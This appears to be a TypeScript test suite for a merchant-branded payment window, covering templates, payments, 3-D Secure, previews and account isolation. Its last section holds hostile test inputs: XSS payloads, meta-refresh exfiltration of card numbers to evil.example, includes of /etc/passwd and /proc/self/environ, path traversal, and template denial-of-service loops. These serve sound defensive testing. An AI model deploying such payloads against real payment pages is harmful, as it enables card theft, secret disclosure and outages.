// The payment window in a merchant's own branding: one written for the original window is shown and pays unchanged, what it
// does not know of reaches the shopper all the same, and one that means harm harms nobody.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { bucketOf } from "../src/domain/transaction.ts";
import { startApp, type TestAccount, type TestApp } from "./support/app.ts";
import { form } from "./support/files.ts";
import { compiled, danish, danish_po, original_branding } from "./support/original-branding.ts";
import { follow, type Page, submit, typed, visit } from "./support/shopper.ts";

let app: TestApp;
let shop: TestAccount;
let stranger: TestAccount;
let tea: number;
let orders = 0;

before(async () => {
  app = await startApp();
  shop = await app.newAccount();
  stranger = await app.newAccount();
  tea = await uploaded(original_branding);
});
after(() => app.stop());

type Files = Readonly<Record<string, string | Buffer>>;

/** A branding with these files, put one by one as merchants do. */
async function uploaded(files: Files, account = shop): Promise<number> {
  const made = await account.owner("POST", "/brandings", { body: { name: "Tea house" } });
  assert.equal(made.status, 201, made.text);
  for (const [name, content] of Object.entries(files)) await put(made.body.id, name, content, account);
  return made.body.id;
}

async function put(id: number, name: string, content: string | Buffer, account = shop): Promise<void> {
  const { status, text } = await account.owner("PUT", `/brandings/${id}/${name}`, { body: form(content) });
  assert.deepEqual([status, text], [204, ""], name);
}

/** As somebody leaves it in the database who came past the upload's judges. */
async function stored(id: number, name: string, content: string, account = shop): Promise<void> {
  await app.services.pool.query(
    `INSERT INTO branding_files (bucket, account_id, branding_id, name, data) VALUES ($1, $2, $3, $4, $5)
     ON CONFLICT (bucket, branding_id, name) DO UPDATE SET data = excluded.data`,
    [bucketOf(account.id), account.id, id, name, Buffer.from(content)],
  );
  await app.services.pool.query("UPDATE brandings SET files_version = files_version + 1 WHERE account_id = $1", [
    account.id,
  ]);
}

type Linked = {
  readonly id: number;
  readonly url: string;
  // biome-ignore lint/suspicious/noExplicitAny: as the API answers it
  readonly read: () => Promise<any>;
};

async function linked(link: object = {}, payment: object = {}, account = shop): Promise<Linked> {
  orders += 1;
  const order = { order_id: `tea-${orders}`, currency: "DKK", ...payment };
  const made = await account.call("POST", "/payments", { body: order });
  assert.equal(made.status, 201, made.text);
  const { id } = made.body;
  const urls = { continue_url: "https://shop.example/ok", cancel_url: "https://shop.example/no" };
  const body = { amount: 24_900, ...urls, ...link };
  const { status, text, body: answer } = await account.call("PUT", `/payments/${id}/link`, { body });
  assert.equal(status, 200, text);
  return { id, url: answer.url, read: async () => (await account.call("GET", `/payments/${id}`)).body };
}

const opened = async (link: object = {}, payment: object = {}, account = shop): Promise<Page> =>
  visit((await linked({ branding_id: tea, ...link }, payment, account)).url);

/** A card in the fields of brandings for the original. */
function card(number: string, more: Readonly<Record<string, string>> = {}) {
  const { expiration: _, ...rest } = typed(number);
  return { ...rest, "expiration[month]": "12", "expiration[year]": "31", ...more };
}

const good = "1000000000000008";
const declined = "1000000000000016";
const pays = /\/pay$/;

describe("a branding for the original window", () => {
  test("is shown in its own words, with its own stylesheet and pictures", async () => {
    const page = await opened();
    assert.equal(page.status, 200);
    assert.match(page.text, /Kop og Kande Tea order tea-\d+ Pay for your tea by card/);
    assert.match(page.text, /Pay for tea 249\.00 DKK/);
    assert.match(page.text, /Paid when the water boils/);
    assert.match(page.html, /<title>The tea house<\/title>/);
    assert.match(page.html, /<body[^>]* data-autojump/);
    assert.match(page.html, /<em>Paid when/);
    assert.match(page.html, /class="wrapper tea-house"/);
    assert.doesNotMatch(page.html, /\{[{%]|undefined|\[object/);
    const addresses = [...page.html.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, address = ""]) => address);
    const loaded = addresses.filter((address) => /^\/assets\//.test(address));
    assert.ok(loaded.length > 8, loaded.join(" "));
    const types = {
      css: "text/css; charset=utf-8",
      svg: "image/svg+xml",
      png: "image/png",
      js: "text/javascript; charset=utf-8",
    };
    for (const address of loaded) {
      const answer = await fetch(new URL(address, page.url));
      const ending = /\w+$/.exec(address)?.[0] as keyof typeof types;
      assert.deepEqual([answer.status, answer.headers.get("content-type")], [200, types[ending]], address);
      const text = await answer.text();
      if (ending !== "css") continue;
      assert.match(text, /\.tea-house/);
      const leaf = await fetch(new URL("../images/leaf.svg", answer.url));
      assert.deepEqual([leaf.status, leaf.headers.get("content-type")], [200, "image/svg+xml"]);
    }
    assert.equal(
      loaded.filter((address) => address.startsWith(`/assets/brandings/${shop.id}/${tea}/`)).length > 4,
      true,
    );
  });

  test("pays, and says so when the link is opened again", async () => {
    const { url, read } = await linked({ branding_id: tea });
    const paid = await submit(await visit(url), card(good, { cardholder: "Ida Holm" }), pays);
    assert.match(paid.text, /Your tea is on its way/);
    assert.match(paid.html, /data-leave="https:\/\/shop\.example\/ok"/);
    const payment = await read();
    assert.deepEqual([payment.accepted, payment.operations.length, payment.metadata.last4], [true, 1, "0008"]);
    assert.match((await visit(url)).text, /This tea is paid for/);
  });

  test("tells of a declined card in its words and in ours, then pays with another", async () => {
    const { url, read } = await linked({ branding_id: tea });
    const no = await submit(await visit(url), card(declined), pays);
    assert.match(no.html, /class="tea-spilt"/);
    assert.match(no.text, /The card was declined\. Nothing was charged\..*The tea was spilt\. Please pour again\./);
    assert.equal(no.text.match(/was declined/g)?.length, 1);
    const paid = await submit(no, card(good), pays);
    assert.match(paid.text, /Your tea is on its way/);
    assert.equal((await read()).operations.length, 2);
  });

  test("what is wrong with each field is told in a sentence", async () => {
    const { url } = await linked({ branding_id: tea });
    const wrong = await submit(await visit(url), card("1000000000000009", { cvd: "", "expiration[year]": "20" }), pays);
    assert.match(
      wrong.text,
      /Please correct this: Check the card number.* The card has expired\..* Enter the security code\./,
    );
    assert.match(wrong.text, /The tea was spilt/);
  });

  test("a 3-D Secure challenge is passed with the forms that the script sends, and without script by ours", async () => {
    const { url, read } = await linked({ branding_id: tea });
    const auth = await submit(await visit(url), card(good, { "3d": "1" }), pays);
    assert.match(auth.text, /The tea is being checked/);
    assert.match(auth.html, /<noscript>\s*<div class="state">[\s\S]*<button[\s\S]*<\/noscript>/);
    const challenge = await submit(auth, {}, /3ds-auth$/);
    assert.match(challenge.html, /<form id="3ds_challenge_form"[^>]*target="challengeIframe">/);
    assert.match(challenge.headers.get("content-security-policy") ?? "", /form-action 'self' http/);
    const bank = await submit(challenge, {}, /simulator\/3ds\/challenge/);
    const back = await submit(await submit(bank, { answer: "approve" }), {}, /3ds-result$/);
    const paid = await follow(back, /./);
    assert.match(paid.text, /Your tea is on its way/);
    assert.equal((await read()).metadata["3d_secure_type"], "challenge");
    const failing = await submit(
      await visit((await linked({ branding_id: tea })).url),
      card(good, { "3d": "1", "expiration[month]": "05" }),
      pays,
    );
    const failed = await submit(failing, {}, /3ds-auth$/);
    assert.match(failed.text, /3D Secure said no\. (Please pour again|Take another teapot)\./);
    assert.match((await follow(failed, /Try again/)).text, /Pay for your tea/);
  });

  test("cancel asks, then leads back; the deadline has its page", async () => {
    const page = await opened();
    const sure = await follow(page, /Leave the tea house/);
    const cancelled = await follow(sure, /Yes, cancel/);
    assert.match(cancelled.text, /You have left the tea house/);
    assert.match(cancelled.html, /data-leave="https:\/\/shop\.example\/no"/);
    const late = await linked({ branding_id: tea, deadline: 60 });
    const waits = await visit(late.url);
    assert.match(waits.text, /steeped in \d+/);
    app.advance(61);
    const over = await submit(waits, card(good), pays);
    assert.match(over.text, /The tea is cold Click here to continue/);
    assert.equal(over.status, 410);
    assert.deepEqual((await late.read()).accepted, false);
  });

  test("speaks Danish by its .po, German by the .mo alone, and Danish by a .mo where that is all", async () => {
    const page = await opened({ language: "da" });
    assert.match(page.text, /Te-ordre tea-\d+ Betal din te med kort/);
    assert.match(page.text, /Betal te 249,00 DKK/);
    assert.match(page.text, /Leave the tea house/, "what is fuzzy is no translation");
    const no = await submit(page, card(declined), pays);
    assert.match(no.text, /Kortet blev afvist\..*Teen blev spildt\. Hæld op igen\./);
    const english = await follow(no, /English/);
    assert.match(english.text, /Pay for tea 249\.00 DKK/);
    assert.match((await opened({ language: "de" })).text, /Teebestellung tea-\d+.*Tee bezahlen 249,00/);
    const { [danish_po]: _, ...rest } = original_branding;
    const id = await uploaded({ ...rest, "locales/da_DK/LC_MESSAGES/branding.mo": compiled(danish) });
    assert.match((await opened({ branding_id: id, language: "da" })).text, /Betal te 249,00 DKK/);
  });
});

describe("other methods in a branding for the original", () => {
  before(async () => {
    for (const acquirer of ["mobilepayonline", "swish"])
      assert.equal(
        (await shop.owner("PATCH", `/acquirers/${acquirer}`, { body: { active: true, merchant_id: "1" } })).status,
        200,
      );
  });

  test("MobilePay is chosen, paid at its provider and comes back", async () => {
    const { url, read } = await linked({ branding_id: tea });
    const chosen = await follow(await visit(url), /payment-method\/mobilepay/);
    assert.match(chosen.text, /The MobilePay pot opens/);
    assert.match(chosen.html, /<a class="btn btn-info autoclick" href="http/);
    const provider = await follow(chosen, /Proceed to the pot/);
    const paid = await submit(provider, { answer: "approve" });
    assert.match(paid.text, /Your tea is on its way/);
    assert.equal((await read()).accepted, true);
  });

  test("who declined there may choose again, and the branding without words for it gets ours", async () => {
    const { url } = await linked({ branding_id: tea, payment_methods: "mobilepay,swish" });
    const selector = await visit(url);
    assert.match(selector.text, /Choose a teapot/);
    assert.doesNotMatch(selector.text, /Other teapots/, "each method once");
    const provider = await follow(await follow(selector, /payment-method\/mobilepay/), /Proceed to the pot/);
    const no = await submit(provider, { answer: "decline" });
    assert.match(no.text, /The payment could not be completed/);
    assert.match(no.html, /<div class="alert" role="alert">/);
  });

  test("Swish asks for a number with a form that posts beside the session", async () => {
    const { url, read } = await linked({ branding_id: tea, payment_methods: "swish" });
    const asks = await follow(await visit(url), /payment-method\/swish/);
    assert.match(asks.text, /Mobile number Proceed/);
    assert.ok(asks.forms.some(({ action }) => new URL(action).pathname === "/process_swish"));
    const sent = await submit(asks, { mobile: "0701234567" }, /process_swish/);
    const provider = await follow(sent, /Continue to Swish/);
    assert.match(provider.html, /simulator/);
    assert.equal((await read()).operations[0].type, "session");
  });

  test("back to the cards by the address with a slash at its end", async () => {
    const asks = await follow(await opened(), /payment-method\/swish/);
    assert.match((await follow(asks, /payment-method-undo\/$/)).text, /Pay for your tea by card/);
  });
});

describe("which branding", () => {
  const titled = (title: string) => ({
    "config.json": JSON.stringify({ title, reservation_notice: "of the file" }),
    "templates/layout.liquid": `<h1>${title} {{ config.reservation_notice }} {{ config.other }}</h1>`,
  });

  test("the link's, then the payment's, then the account's; settings of the link before the file's before the account's", async () => {
    const [a, b, c] = [await uploaded(titled("A")), await uploaded(titled("B")), await uploaded(titled("C"))];
    const body = {
      default_branding_id: c,
      default_branding_config: { reservation_notice: "of the account", other: "account" },
    };
    assert.equal((await shop.owner("PATCH", "/account", { body })).status, 200);
    const shown = async (link: object, payment: object) => (await visit((await linked(link, payment)).url)).text;
    assert.equal(await shown({ branding_id: a }, { branding_id: b }), "A of the file account");
    assert.equal(await shown({}, { branding_id: b }), "B of the file account");
    assert.equal(await shown({}, {}), "C of the file account");
    const branding_config = { reservation_notice: "of the link", title: "Z" };
    const page = await visit((await linked({ branding_config })).url);
    assert.equal(page.text, "C of the link account");
    assert.match(page.html, /<title>Z<\/title>/);
    await shop.owner("PATCH", "/account", { body: { default_branding_id: null, default_branding_config: {} } });
    assert.match(await shown({}, {}), /Pay by card/);
  });

  test("another account's cannot be named, and one that was deleted is ours from the next page on", async () => {
    const { id } = (await shop.call("POST", "/payments", { body: { order_id: "tea-theirs", currency: "DKK" } })).body;
    const theirs = 77_777;
    const { pool } = app.services;
    const row = "INSERT INTO brandings (bucket, account_id, id, name, created_at) VALUES ($1, $2, $3, 'Theirs', now())";
    await pool.query(row, [bucketOf(stranger.id), stranger.id, theirs]);
    const put_link = await shop.call("PUT", `/payments/${id}/link`, { body: { amount: 100, branding_id: theirs } });
    assert.deepEqual([put_link.status, put_link.body.errors], [400, { branding_id: ["is invalid"] }]);
    const own = await uploaded(titled("Gone"));
    const page = await opened({ branding_id: own });
    assert.match(page.text, /Gone/);
    assert.equal((await shop.owner("DELETE", `/brandings/${own}`)).status, 204);
    const again = await visit(`${new URL(page.url).origin}/${/data-session="(\w+)"/.exec(page.html)?.[1]}`);
    assert.match(again.text, /Pay by card/);
    assert.match((await submit(again, typed(good), pays)).text, /Thank you/);
  });

  test("a file that is put changes the very next page; where a template is missing ours stands in and says things once", async () => {
    const id = await uploaded({ "templates/layout.liquid": '<h1>One</h1>{% include "content" %}' });
    const { url } = await linked({ branding_id: id });
    const page = await visit(url);
    assert.match(page.text, /^One Pay by card/);
    await put(id, "templates/layout.liquid", '<h1>Two</h1>{% include "content" %}');
    assert.match((await visit(url)).text, /^Two Pay by card/);
    const no = await submit(page, typed(declined), pays);
    assert.equal(no.text.match(/was declined/g)?.length, 1, no.text);
    assert.doesNotMatch(no.text, /Something went wrong/);
    const wrong = await submit(no, typed(good, { cvd: "" }), pays);
    assert.equal(wrong.text.match(/Please correct this/g)?.length, 1);
  });
});

describe("what brandings for the original have no place for", () => {
  let house: number;
  before(async () => {
    house = await uploaded(original_branding, stranger);
  });
  const theirs = (link: object = {}) => linked({ branding_id: house, ...link }, {}, stranger);

  test("a fee is told with the new total, and is paid once it was", async () => {
    await stranger.owner("PATCH", "/fees/formulas/clearhaus/visa", { body: { formula: "100" } });
    const { url, read } = await theirs({ auto_fee: true });
    const american = card(good, { cvd: "840" });
    const added = await submit(await visit(url), american, pays);
    assert.match(added.text, /This card adds a fee\. Nothing is charged yet.* Total: [A-Z]* ?\d/);
    const paid = await submit(added, american, pays);
    assert.match(paid.text, /Your tea is on its way/);
    assert.ok((await read()).operations[0].amount > 24_900);
  });

  test("the proof of work is in its card form: the script solves it, and without script it passes after a minute", async () => {
    for (let tries = 0; tries < 6; tries++) {
      const no = await submit(await visit((await theirs()).url), card(declined), pays);
      assert.match(no.text, /was declined/);
      app.advance(61);
    }
    const { url, read } = await theirs();
    const asked = await submit(await visit(url), card(good), pays);
    assert.match(
      asked.html,
      /<form class="form-horizontal"[^>]*>\s*<input type="hidden" name="work_id" value="[^"]+">/,
    );
    assert.match(asked.html, /name="work_answer" value="" data-challenge="[\w-]{32}" data-bits="\d\d"/);
    assert.match(asked.html, /\/work\.js"/);
    assert.match(asked.text, /We have to make sure that no machine is trying out cards\./);
    assert.match(
      asked.html,
      /<noscript><p>Your browser runs no script\. Wait this long, then pay: \d+ s<\/p><\/noscript>/,
    );
    const hasty = await submit(asked, card(good), pays);
    assert.match(hasty.text, /no machine is trying out cards/);
    const formless = await uploaded({ "templates/layout.liquid": "<p>No form</p>" }, stranger);
    const { url: last } = await theirs({ branding_id: formless });
    const pressed = { method: "POST", body: new URLSearchParams(card(good)) };
    const session = /data-session="(\w+)"/.exec((await visit(last)).html)?.[1];
    const given_way = await visit(new URL(`/${session}/pay`, last).href, pressed);
    assert.match(given_way.text, /Pay by card/, "a form that cannot carry it gives way to ours");
    assert.ok(app.log.some((line) => line.includes("has no form that posts to form_action")));
    app.advance(61);
    const paid = await submit(asked, card(good), pays);
    assert.match(paid.text, /Your tea is on its way/);
    assert.equal((await read()).accepted, true);
  });
});

describe("the preview of a branding", () => {
  async function preview(body: object = {}, id = tea): Promise<string> {
    const made = await shop.owner("POST", `/brandings/${id}/preview`, { body });
    assert.equal(made.status, 201, made.text);
    assert.deepEqual(Object.keys(made.body), ["url", "expires_at"]);
    const lasts_s = (Date.parse(made.body.expires_at) - app.services.clock.now().getTime()) / 1000;
    assert.ok(lasts_s > 890 && lasts_s <= 900, `${lasts_s}`);
    return made.body.url;
  }

  for (const [name, text] of [
    ["form", /Kop og Kande Tea order order-1001 .*Pay for your tea by card.*Pay for tea 249\.00 DKK/],
    ["form_error", /The card was declined\..*The tea was spilt/],
    ["selector", /Choose a teapot/],
    ["waiting", /The water is not boiling yet/],
    ["success", /Your tea is on its way/],
    ["cancelled", /You have left the tea house/],
    ["deadline", /The tea is cold/],
    ["error", /No tea today.*Try again/],
    ["3ds_auth", /The tea is being checked/],
    ["3ds_challenge", /Kop og Kande Tea order order-1001 steeped in 600 Dansk/],
  ] as const)
    test(`shows ${name}`, async () => {
      const page = await visit(await preview({ page: name }));
      assert.equal(page.status, 200);
      assert.match(page.text, text);
      assert.doesNotMatch(page.html, /<script|undefined|\[object/);
    });

  test("runs no script, is framed by the manager alone, and leads nowhere, whatever is pressed", async () => {
    const url = await preview({ language: "da", transaction_type: "subscription" });
    const page = await visit(url);
    assert.match(page.text, /Betal din te med kort.*Subscribe to tea/);
    assert.match(page.html, /<title>Preview: Kop og Kande<\/title>/);
    const policy = page.headers.get("content-security-policy") ?? "";
    assert.match(policy, /script-src 'none'/);
    assert.ok(policy.includes(`frame-ancestors ${new URL(app.app.addresses.manager_url).origin};`), policy);
    assert.deepEqual(
      ["x-frame-options", "x-robots-tag", "cache-control"].map((name) => page.headers.get(name)),
      [null, "noindex, nofollow", "no-store"],
    );
    const before_sent = await app.services.pool.query("SELECT count(*)::int AS n FROM operations");
    for (const form_sent of page.forms) {
      assert.equal(new URL(form_sent.action).href, url);
      assert.equal(
        (await visit(form_sent.action, { method: "POST", body: new URLSearchParams(card(good)) })).text,
        page.text,
      );
    }
    const own = page.links.filter(({ href }) => !href.includes("update-language"));
    assert.ok(own.length > 2);
    for (const { href } of own) {
      assert.ok(href.startsWith(url), href);
      assert.equal((await visit(href)).text, page.text);
    }
    assert.match((await follow(page, /English/)).text, /Pay for your tea by card/);
    assert.deepEqual(
      (await app.services.pool.query("SELECT count(*)::int AS n FROM operations")).rows,
      before_sent.rows,
    );
  });

  test("says why a template cannot be shown; and ends after 15 minutes, with the branding, or with a sign that was changed", async () => {
    const id = await uploaded({ VERSION: "2.5.0" });
    await stored(id, "templates/layout.liquid", "{% if %}");
    const url = await preview({}, id);
    assert.match((await visit(url)).text, /This template cannot be shown: it is not Liquid: line 1.*Pay by card/);
    const changed = url.replace(/.(?=.{40}$)/, (sign) => (sign === "A" ? "B" : "A"));
    for (const none of [
      changed,
      `${url}x`,
      new URL("/previews/x", url).href,
      new URL(`/previews/${"a".repeat(5_000)}`, url).href,
    ])
      assert.ok((await visit(none)).status >= 404, none.slice(0, 80));
    assert.equal((await shop.owner("DELETE", `/brandings/${id}`)).status, 204);
    assert.equal((await visit(url)).status, 410);
    const late = await preview();
    app.advance(901);
    assert.equal((await visit(late)).status, 410);
  });

  test("is the owner's to ask for, of an own branding and of pages that there are", async () => {
    const asked = async (call: typeof shop.call, id: number, body: object) =>
      (await call("POST", `/brandings/${id}/preview`, { body })).status;
    assert.equal(await asked(shop.call, tea, {}), 403);
    assert.equal(await asked(shop.owner, 99_999, {}), 404);
    for (const body of [{ page: "layout" }, { language: "danish" }, { transaction_type: "loan" }])
      assert.equal(await asked(shop.owner, tea, body), 400, JSON.stringify(body));
  });
});

describe("a branding that means harm", () => {
  const hostile = { "templates/layout.liquid": '<h1>{{ model.displayname }}</h1>{% include "content" %}' };

  test("cannot be uploaded with script, and where it stands in the database the page's policy stops it", async () => {
    const id = await uploaded(hostile);
    const attack = `<script>steal()</script><img src=x onerror="steal()"><a href="javascript:steal()">x</a>
      <script src="data:text/javascript,steal()"></script><object data="data:text/html,x"></object><base href="//evil.example/">`;
    for (const part of ["<script>a()</script>", '<p onclick="a()">', '<a href="javascript:a()">']) {
      const { status } = await shop.owner("PUT", `/brandings/${id}/templates/success.liquid`, { body: form(part) });
      assert.equal(status, 415, part);
    }
    await stored(id, "templates/layout.liquid", attack);
    const page = await opened({ branding_id: id });
    assert.match(page.html, /steal\(\)/);
    const policy = new Map(
      (page.headers.get("content-security-policy") ?? "").split("; ").map((part) => {
        const [name = "", ...sources] = part.split(" ");
        return [name, sources.join(" ")];
      }),
    );
    const { "default-src": rest, "script-src": script, "style-src": style, ...more } = Object.fromEntries(policy);
    const files = `${app.app.addresses.window_url}/assets/`;
    assert.deepEqual([rest, script, style], ["'none'", "'self'", files]);
    assert.match(more["img-src"] ?? "", new RegExp(`^${files} ${app.app.addresses.window_url}/\\w{64}/logo data:$`));
    assert.equal(more["font-src"], files, "a stylesheet that watches what is typed has nobody to tell");
    assert.deepEqual([more["style-src-attr"], more["base-uri"]], ["'unsafe-inline'", "'self'"]);
    for (const name of ["object-src", "script-src-elem", "script-src-attr", "worker-src"]) assert.ok(!policy.has(name));
    assert.deepEqual([more["frame-ancestors"], more["form-action"], more["frame-src"]], ["'none'", "'self'", "'none'"]);
    // The window's own base stands before any other: browsers take the first.
    assert.match(page.html, /<head>\s*<meta charset="utf-8">\s*<base href="\/">/);
  });

  test("cannot take a card's number away: it is not told, and no page leads elsewhere by itself", async () => {
    const id = await uploaded(hostile);
    const meta = '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ model.entered.cardnumber }}">';
    const refused = await shop.owner("PUT", `/brandings/${id}/templates/layout.liquid`, { body: form(meta) });
    assert.equal(refused.status, 415, refused.text);
    const source = `<{{ "META" }} http-equiv=refresh content="0;url=//evil.example/{{ model.session_id }}"><meta/name=referrer
      content=unsafe-url><a referrerpolicy="unsafe-url" href="//evil.example">x</a>[{{ model.entered.cardnumber }}]
      <form action="{{ model.form_action }}" method="post"></form>`;
    await stored(id, "templates/layout.liquid", source);
    const declined = await submit(await opened({ branding_id: id }), typed("1000000000000016"), /\/pay$/);
    const [, body = ""] = declined.html.split("<body");
    assert.match(body, /\[\]/);
    assert.doesNotMatch(body, /<meta|\sreferrerpolicy|1000 ?0000/i);
  });

  test("reads nothing but what the page is told", async () => {
    const sources = [
      "{{ services }}{{ process.env }}{{ this }}{{ model.constructor }}{{ account }}{{ terms }}{{ branding }}",
      '{% include "../../etc/passwd" %}{% include "/proc/self/environ" %}{% include "../liquid.ts" %}',
      `{% include "/assets/brandings/${stranger.id}/1/1/config.json" %}{% render "../../package.json" %}`,
    ];
    const id = await uploaded({ "templates/layout.liquid": `<p>[${sources.join("")}]</p>` });
    assert.equal((await opened({ branding_id: id })).text, "[]");
    const theirs = await uploaded(
      { ...hostile, "config.json": '{"a":"secret"}', "images/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>' },
      stranger,
    );
    const { origin } = new URL((await linked()).url);
    const asset = async (path: string): Promise<number> => (await fetch(`${origin}/assets/brandings/${path}`)).status;
    assert.equal(
      await asset(`${stranger.id}/${theirs}/1/images/a.svg`),
      200,
      "what everybody's pages load is no secret",
    );
    for (const path of [
      `${stranger.id}/${theirs}/1/config.json`,
      `${stranger.id}/${theirs}/1/templates/layout.liquid`,
      `${stranger.id}/${theirs}/1/images/../config.json`,
      `${stranger.id}/${theirs}/1/images%2F..%2Fconfig.json`,
      `${stranger.id}/${theirs}/1/images/`,
      `${shop.id}/${theirs}999/1/images/a.svg`,
      `${stranger.id}/%00/1/images/a.svg`,
    ])
      assert.equal(await asset(path), 404, path);
  });

  const endless = "{% for a in (1..99999) %}{% for b in (1..99999) %}{% endfor %}{% endfor %}";
  const doubling = `{% capture x %}aaaaaaaaaaaaaaaaaaaaaaaa{% endcapture %}${"{% capture x %}{{ x }}{{ x }}{% endcapture %}".repeat(40)}{{ x }}`;
  const swelling =
    "{% for a in (1..99999) %}{{ model.displayname }} and a long line of text that nobody wants to read{% endfor %}";
  const devouring = `{% assign x = "a" %}${'{% assign x = x | replace: "a", "aaaaaaaaaa" %}'.repeat(9)}${'{% assign x = x | split: "" | join: "bb" %}'.repeat(9)}`;

  // Many times what it takes on a machine that has nothing else to do.
  const soon_ms = 5_000;

  async function timed({ url }: Linked) {
    const began = performance.now();
    const page = await visit(url);
    return { page, took_ms: Math.round(performance.now() - began) };
  }

  const said = (from: number): string => app.log.slice(from).find((line) => line.includes("ours stands in")) ?? "";

  test("neither hangs nor swells: the page comes in ours, and a line in the log says why", async () => {
    const villain = await app.newAccount();
    const id = await uploaded(hostile, villain);
    const { url } = await linked({ branding_id: id }, {}, villain);
    for (const [source, why] of [
      ["{% if %}", "is not Liquid: line 1"],
      [endless, "takes more than 100 ms to render"],
      [doubling, "(makes a page of more than 512 kB|takes more than 100 ms)"],
      [swelling, "is not tried: others of the account took too much a moment ago"],
    ] as const) {
      await stored(id, "templates/layout.liquid", source, villain);
      const logged = app.log.length;
      const { page, took_ms } = await timed({ url } as Linked);
      assert.match(page.text, /Pay by card/, why);
      assert.ok(took_ms < soon_ms, `${why}: ${took_ms} ms`);
      assert.match(said(logged), new RegExp(`"branding":${id},"template":"form","why":"${why}`));
    }
    const others = await app.newAccount();
    for (const [source, why] of [
      [swelling, "makes a page of more than 512 kB|takes more than 100 ms"],
      [devouring, "needs too much memory|takes more than 100 ms"],
    ] as const) {
      const one = await uploaded(hostile, others);
      await stored(one, "templates/layout.liquid", source, others);
      const logged = app.log.length;
      const { page, took_ms } = await timed(await linked({ branding_id: one }, {}, others));
      assert.match(page.text, /Pay by card/, why);
      assert.ok(took_ms < soon_ms, `${why}: ${took_ms} ms`);
      assert.match(said(logged), new RegExp(`"why":"(${why})`));
    }
  });

  test("has no locale that hangs either: the page comes untranslated", async () => {
    const villain = await app.newAccount();
    const id = await uploaded({ ...hostile, "templates/layout.liquid": "{% t Pay for tea %}" }, villain);
    const plurals = Array.from({ length: 40_000 }, (_, at) => `msgstr[${at}] "x"`).join("\n");
    await put(id, danish_po, `msgid ""\nmsgstr ""\n\nmsgid "Pay for tea"\nmsgid_plural "b"\n${plurals}\n`, villain);
    const { page, took_ms } = await timed(await linked({ branding_id: id, language: "da" }, {}, villain));
    assert.equal(page.text, "Pay for tea");
    assert.ok(took_ms < soon_ms, `${took_ms} ms`);
    assert.ok(app.log.some((line) => line.includes("takes more than 500 ms to read")));
  });

  test("keeps nobody else waiting: 20 pages of another shop beside 5 of its own", async (t) => {
    const villain = await app.newAccount();
    const bad = await uploaded(hostile, villain);
    await stored(bad, "templates/layout.liquid", endless, villain);
    const good_links = await Promise.all(Array.from({ length: 20 }, () => linked({ branding_id: tea })));
    const bad_links = await Promise.all(Array.from({ length: 5 }, () => linked({ branding_id: bad }, {}, villain)));
    const alone = await Promise.all(good_links.map(timed));
    const before_mb = process.memoryUsage().rss / 2 ** 20;
    const hostile_pages = bad_links.map(timed);
    const beside = await Promise.all(good_links.map(timed));
    const own = await Promise.all(hostile_pages);
    const grown_mb = Math.round(process.memoryUsage().rss / 2 ** 20 - before_mb);
    const slowest = (pages: typeof own): number => Math.max(...pages.map(({ took_ms }) => took_ms));
    t.diagnostic(
      `20 pages: the slowest ${slowest(alone)} ms alone, ${slowest(beside)} ms beside 5 hostile ones (${slowest(own)} ms); ${grown_mb} MB more`,
    );
    for (const { page } of own) assert.match(page.text, /Pay by card/);
    for (const { page } of beside) assert.match(page.text, /Pay for your tea/);
    assert.ok(slowest(beside) < slowest(alone) * 3 + soon_ms);
    assert.ok(grown_mb < 100, `${grown_mb} MB`);
  });
});
